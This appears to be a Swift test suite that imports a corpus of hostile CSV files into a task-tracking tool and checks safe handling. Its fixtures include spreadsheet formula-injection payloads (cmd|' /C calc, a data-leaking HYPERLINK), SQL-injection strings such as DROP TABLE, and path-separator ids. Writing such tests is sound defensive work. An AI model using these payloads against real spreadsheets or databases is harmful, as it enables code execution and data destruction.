import Foundation
import Testing

/// The hostile-input corpus: every file in Tests/Corpus/hostile (written by
/// Tests/Corpus/make_hostile.py) imported as a tasks file over a known-good database.
///
/// Policy: the expectations live in Tests/Corpus/hostile/MANIFEST.tsv and come from SPEC.md and
/// docs/formats.md (exit code, problem codes and lines, the data an import may change). A run
/// must never crash (exit 70 or a signal), must leave a sound database and must finish within
/// 60 s. A file the manifest marks `generated at test time` is not checked in (too big); the
/// test writes it with the script.
@Suite struct HostileCorpusTests {
    // MARK: - The manifest

    /// What an import is allowed to change: this many new rows, every other row byte for byte
    /// the same.
    struct DataChange: Equatable, Sendable, CustomStringConvertible {
        var courses = 0
        var tasks = 0

        var description: String {
            let parts = [(courses, "courses"), (tasks, "tasks")].filter { $0.0 != 0 }.map { "+\($0.0) \($0.1)" }
            return parts.isEmpty ? "none" : parts.joined(separator: " ")
        }

        /// Reads `none`, `+3 tasks`, `+6 courses` or `+1 courses +2 tasks`.
        init(_ text: String) throws {
            guard text != "none" else { return }
            let words = text.split(separator: " ")
            guard words.count % 2 == 0, !words.isEmpty else { throw HarnessError("data change \"\(text)\" is not `none` or `+N tasks`") }
            for index in stride(from: 0, to: words.count, by: 2) {
                guard words[index].hasPrefix("+"), let count = Int(words[index].dropFirst()) else {
                    throw HarnessError("data change \"\(text)\": \(words[index]) is not +N")
                }
                switch words[index + 1] {
                case "tasks": tasks = count
                case "courses": courses = count
                default: throw HarnessError("data change \"\(text)\": \(words[index + 1]) is neither tasks nor courses")
                }
            }
        }
    }

    /// One line of MANIFEST.tsv.
    struct Entry: CustomTestStringConvertible, Sendable {
        let file: String
        let exitCode: Int32
        /// Sorted problem codes, repeats included.
        let codes: [String]
        let change: DataChange
        /// Sorted `code@line` of every problem, or nil when lines are not checked.
        let lines: [String]?
        let description: String

        var generatedAtTestTime: Bool { description.hasPrefix("generated at test time") }
        var testDescription: String { file }

        /// Reads one tab-separated line: file, exit, codes, change, lines, description.
        init(_ line: Substring, number: Int) throws {
            let cells = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
            guard cells.count == 6, let exit = Int32(cells[1]) else {
                throw HarnessError("MANIFEST.tsv line \(number): expected 6 tab-separated cells with a numeric exit code: \(line)")
            }
            file = cells[0]
            exitCode = exit
            codes = Self.expand(cells[2])
            change = try DataChange(cells[3])
            lines = cells[4] == "-" ? nil : Self.expand(cells[4])
            description = cells[5]
        }

        /// `code@line` items sorted by code, then by line as a number.
        static func sortedByCodeAndLine(_ items: [String]) -> [String] {
            func key(_ item: String) -> (String, Int) {
                let parts = item.split(separator: "@", maxSplits: 1)
                return (String(parts.first ?? ""), parts.count > 1 ? Int(parts[1]) ?? -1 : -1)
            }
            return items.sorted { key($0) < key($1) }
        }

        /// `a,b*3` → `[a, b, b, b]`; `-` → `[]`.
        static func expand(_ cell: String) -> [String] {
            guard cell != "-" else { return [] }
            return cell.split(separator: ",").flatMap { item -> [String] in
                if let star = item.lastIndex(of: "*"), let count = Int(item[item.index(after: star)...]) {
                    return Array(repeating: String(item[..<star]), count: count)
                }
                return [String(item)]
            }
        }
    }

    static let corpusDirectory = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent()  // EndToEndTests
        .deletingLastPathComponent()  // Tests
        .appendingPathComponent("Corpus")
    static let hostileDirectory = corpusDirectory.appendingPathComponent("hostile")
    static let generator = corpusDirectory.appendingPathComponent("make_hostile.py")

    static let manifest: Result<[Entry], HarnessError> = Result {
        let url = hostileDirectory.appendingPathComponent("MANIFEST.tsv")
        guard let text = try? String(contentsOf: url, encoding: .utf8) else {
            throw HarnessError("cannot read \(url.path): run `python3 Tests/Corpus/make_hostile.py`")
        }
        return try text.split(separator: "\n").enumerated()
            .filter { !$0.element.hasPrefix("#") }
            .map { try Entry($0.element, number: $0.offset + 1) }
    }.mapError { $0 as? HarnessError ?? HarnessError("\($0)") }

    static var entries: [Entry] { (try? manifest.get()) ?? [] }

    // MARK: - The corpus itself

    @Test func manifestListsEveryFileOfTheCorpusAndNothingElse() throws {
        let entries = try Self.manifest.get()
        #expect(entries.count >= 45)
        let names = entries.map(\.file)
        #expect(names == names.sorted(), "MANIFEST.tsv is sorted by file name")
        #expect(Set(names).count == names.count, "no file is listed twice")
        let onDisk = try FileManager.default.contentsOfDirectory(atPath: Self.hostileDirectory.path).filter { $0 != "MANIFEST.tsv" }
        let checkedIn = entries.filter { !$0.generatedAtTestTime }.map(\.file)
        #expect(onDisk.sorted() == checkedIn.sorted())
        for entry in entries {
            #expect(entry.codes == entry.codes.sorted(), "\(entry.file): codes are sorted")
            if let lines = entry.lines {
                #expect(lines == Entry.sortedByCodeAndLine(lines), "\(entry.file): lines are sorted by code, then line")
                #expect(lines.map { String($0.prefix { $0 != "@" }) } == entry.codes, "\(entry.file): one code@line per code")
            }
            #expect([0, 65].contains(entry.exitCode), "\(entry.file): an import of one file exits 0 or 65")
        }
    }

    @Test func checkedInCorpusIsWhatTheScriptWrites() throws {
        let sandbox = try Sandbox()
        let result = try sandbox.runTool("python3", [Self.generator.path, "--check"])
        #expect(result.exitCode == 0, "regenerate with `python3 Tests/Corpus/make_hostile.py`:\n\(result)")
    }

    // MARK: - Every file

    @Test(arguments: entries)
    func hostileFileIsHandledAsDocumented(_ entry: Entry) throws {
        let sandbox = try Sandbox()
        try Fixtures.writeValidSet(sandbox)
        let db = sandbox.path("db.sqlite")
        let baseline = try sandbox.run(["--db", "db.sqlite", "import", "courses.csv", "tasks.csv"])
        try #require(baseline.exitCode == 0, "the baseline import: \(baseline)")
        let coursesBefore = try DatabaseSnapshot.dump(db, table: "courses")
        let tasksBefore = try DatabaseSnapshot.dump(db, table: "tasks")

        let name = "hostile-tasks.csv"  // the name says tasks: a hint when the header is unclear
        try place(entry, as: name, in: sandbox)
        let started = Date()
        let result = try sandbox.run(["--db", "db.sqlite", "import", "--format", "json", name])
        let seconds = Date().timeIntervalSince(started)

        #expect(result.exitCode != 70, "internal error:\n\(result.stderr)")
        #expect(result.exitCode == entry.exitCode, "stderr:\n\(result.stderr.prefix(2000))")
        #expect(seconds < 60, "the import took \(Int(seconds)) s")

        let output = try JSON.object(result.stdout)
        let fileError = output["file_error"] as? [String: Any]
        let problems = fileError.map { [$0] } ?? (JSON.objects(output["rejects"]) + JSON.objects(output["warnings"]))
        let codes = problems.map { $0["code"] as? String ?? "?" }.sorted()
        #expect(codes.count == entry.codes.count, "problem count")
        #expect(codes == entry.codes, "problems: \(codes.prefix(20))")
        if let lines = entry.lines {
            let actual = Entry.sortedByCodeAndLine(problems.map { "\($0["code"] as? String ?? "?")@\($0["line"] as? Int ?? -1)" })
            #expect(actual == lines, "problem lines: \(actual.prefix(20))")
        }
        #expect(problems.allSatisfy { $0["file"] as? String == name }, "every problem names the file")
        #expect(output["status"] as? String == (fileError == nil ? "committed" : "failed"))

        let coursesAfter = try DatabaseSnapshot.dump(db, table: "courses")
        let tasksAfter = try DatabaseSnapshot.dump(db, table: "tasks")
        expectOnlyNewRows(before: coursesBefore, after: coursesAfter, added: entry.change.courses, table: "courses")
        expectOnlyNewRows(before: tasksBefore, after: tasksAfter, added: entry.change.tasks, table: "tasks")
        #expect(try DatabaseSnapshot.lines(db, "PRAGMA integrity_check") == "ok\n")
    }

    /// Puts the corpus file into the sandbox under `name`, writing it with the script when it is
    /// not checked in.
    private func place(_ entry: Entry, as name: String, in sandbox: Sandbox) throws {
        let target = URL(fileURLWithPath: sandbox.path(name))
        if entry.generatedAtTestTime {
            let made = try sandbox.runTool("python3", [Self.generator.path, "--generate", entry.file, sandbox.directory.path])
            try #require(made.exitCode == 0, "make_hostile.py --generate \(entry.file): \(made)")
            try FileManager.default.moveItem(at: sandbox.directory.appendingPathComponent(entry.file), to: target)
        } else {
            try FileManager.default.copyItem(at: Self.hostileDirectory.appendingPathComponent(entry.file), to: target)
        }
    }

    /// Expects `after` to hold every row of `before` unchanged (compared as bytes: String
    /// equality would hide an NFC/NFD difference) and exactly `added` rows more.
    private func expectOnlyNewRows(
        before: String, after: String, added: Int, table: String, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        func rows(_ dump: String) -> [[UInt8]] { Array(dump.utf8).split(separator: 0x0A).map(Array.init) }
        let old = rows(before)
        let new = rows(after)
        if added == 0 {
            #expect(Array(before.utf8) == Array(after.utf8), "\(table) changed:\n\(after.prefix(3000))", sourceLocation: sourceLocation)
            return
        }
        #expect(new.count == old.count + added, "\(table): \(new.count - old.count) new rows", sourceLocation: sourceLocation)
        let kept = Set(new)
        let lost = old.filter { !kept.contains($0) }.map { String(decoding: $0, as: UTF8.self) }
        #expect(lost.isEmpty, "\(table) rows changed or gone: \(lost)", sourceLocation: sourceLocation)
    }

    // MARK: - What the imported values do downstream

    /// Imports the baseline and then corpus files (each as a tasks-named file), expecting `exits`.
    private func sandboxWithCorpus(_ files: [String], exits: [Int32]) throws -> Sandbox {
        let sandbox = try Sandbox()
        try Fixtures.writeValidSet(sandbox)
        #expect(try sandbox.run(["--db", "db.sqlite", "import", "courses.csv", "tasks.csv"]).exitCode == 0)
        for (file, exit) in zip(files, exits) {
            try sandbox.write("hostile-tasks.csv", bytes: Data(contentsOf: Self.hostileDirectory.appendingPathComponent(file)))
            let result = try sandbox.run(["--db", "db.sqlite", "import", "hostile-tasks.csv"])
            #expect(result.exitCode == exit, "\(file): \(result)")
        }
        try FileManager.default.removeItem(atPath: sandbox.path("hostile-tasks.csv"))
        return sandbox
    }

    @Test func formulaCellsComeOutOfCSVReportsAsText() throws {
        let sandbox = try sandboxWithCorpus(["formula-titles.csv"], exits: [0])
        let result = try sandbox.run(["--db", "db.sqlite", "report", "list", "--course", "bio", "--format", "csv"])
        #expect(result.exitCode == 0)
        let records = CSVRecords.parse(result.stdout)
        let header = try #require(records.first)
        let id = try #require(header.firstIndex(of: "task_id"))
        let title = try #require(header.firstIndex(of: "title"))
        let student = try #require(header.firstIndex(of: "student_id"))
        var byID: [String: [String]] = [:]
        for record in records.dropFirst() where record.count == header.count { byID[record[id]] = record }
        let expected: [(String, String)] = [
            ("f1", "'=cmd|' /C calc'!A0"),
            ("f2", "'+1"),
            ("f3", "'-1"),
            ("f4", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("f5", "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"),
            ("f6", "'=1+2"),
        ]
        for (task, text) in expected {
            #expect(byID[task]?[title] == text, "\(task)")
        }
        let formulaID = try #require(byID["'=f7"], "the id =f7 is written '=f7")
        #expect(formulaID[student] == "'@s7")
        // The database keeps the values as they were written.
        #expect(
            try DatabaseSnapshot.lines(
                sandbox.path("db.sqlite"), "SELECT task_id, title, student_id FROM tasks WHERE task_id IN ('f1', '=f7') ORDER BY 1")
                == "=f7|Formula id|@s7\nf1|=cmd|' /C calc'!A0|s1\n")
    }

    @Test func sqlLookingValuesAreStoredVerbatim() throws {
        let sandbox = try sandboxWithCorpus(["sql-looking-values.csv"], exits: [0])
        let db = sandbox.path("db.sqlite")
        #expect(
            try DatabaseSnapshot.lines(
                db, "SELECT task_id, course_id, title, student_id FROM tasks WHERE task_id NOT IN ('t1', 't2', 't3') ORDER BY 1")
                    == """
                    '; DROP TABLE tasks; --|bio|Robert'); DELETE FROM courses; --|s1
                    q2|bio|1" OR "1"="1|' OR 1=1 --
                    q3|his|x'); UPDATE tasks SET title='pwned'; --|s3
                    q4|his|NULL|\\N

                    """)
        #expect(try DatabaseSnapshot.int(db, "SELECT count(*) FROM courses") == 2)
        #expect(try DatabaseSnapshot.int(db, "SELECT count(*) FROM tasks WHERE title = 'pwned'") == 0)
    }

    @Test func unicodeTitlesAreStoredInNFC() throws {
        let sandbox = try sandboxWithCorpus(["unicode-titles.csv"], exits: [65])
        let stored = try DatabaseSnapshot.lines(
            sandbox.path("db.sqlite"), "SELECT task_id, title FROM tasks WHERE task_id LIKE 'uni%' ORDER BY 1")
        let expected =
            "uni1|Lab \u{1F469}\u{200D}\u{1F4BB} report \u{1F9EA}\n"
            + "uni2|Zero\u{200B}width\u{200C}join\u{2060}word\n"
            + "uni3|Right\u{202E}to left\u{202C} override\n"
            + "uni4|Caf\u{E9} and r\u{E9}sum\u{E9}\n"
            + "uni5|\u{D55C}\u{AE00}\n"
            + "uni6|Padded with spaces\n"
        // Compared as scalars: `==` on String treats NFD and NFC as equal.
        #expect(
            Array(stored.unicodeScalars) == Array(expected.unicodeScalars),
            "stored: \(stored.unicodeScalars.map { String($0.value, radix: 16) })")
        #expect(Array(stored.unicodeScalars) == Array(stored.precomposedStringWithCanonicalMapping.unicodeScalars))
    }

    @Test func idsWithPathSeparatorsKeepReportFilesInsideTheOutFolder() throws {
        let sandbox = try sandboxWithCorpus(["path-separator-course-ids.csv", "path-separator-task-ids.csv"], exits: [0, 0])
        let formats = ["html", "markdown", "json", "csv", "text"]
        for format in formats {
            for kind in ["grid", "list"] {
                let result = try sandbox.run(["--db", "db.sqlite", "report", kind, "--format", format, "--out", "out/\(format)"])
                #expect(result.exitCode == 0, "\(kind) \(format): \(result)")
            }
        }
        // Nothing new next to the inputs and the database (and its -wal, -shm): every file went into out/.
        let listing = try sandbox.listing().filter { !$0.hasPrefix("db.sqlite") }
        #expect(listing == ["courses.csv", "out", "tasks.csv"])
        let extensions = ["html": "html", "markdown": "md", "json": "json", "csv": "csv", "text": "txt"]
        for format in formats {
            let folder = sandbox.directory.appendingPathComponent("out/\(format)")
            let files = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
            // index + one list per course: bio, his and the six hostile ids, all directly in the folder.
            #expect(files.count == 9, "\(format): \(files)")
            for file in files {
                var isDirectory: ObjCBool = false
                #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent(file).path, isDirectory: &isDirectory))
                #expect(!isDirectory.boolValue, "\(format)/\(file) is a folder")
                #expect(file.hasSuffix("." + (extensions[format] ?? "?")), "\(format)/\(file)")
                #expect(!file.hasPrefix("."), "\(format)/\(file) is hidden")
                #expect(!file.contains("/") && !file.contains("\\"), "\(format)/\(file)")
            }
        }
        #expect(!FileManager.default.fileExists(atPath: sandbox.path("etc")))
        #expect(!FileManager.default.fileExists(atPath: sandbox.directory.deletingLastPathComponent().appendingPathComponent("etc").path))
    }
}
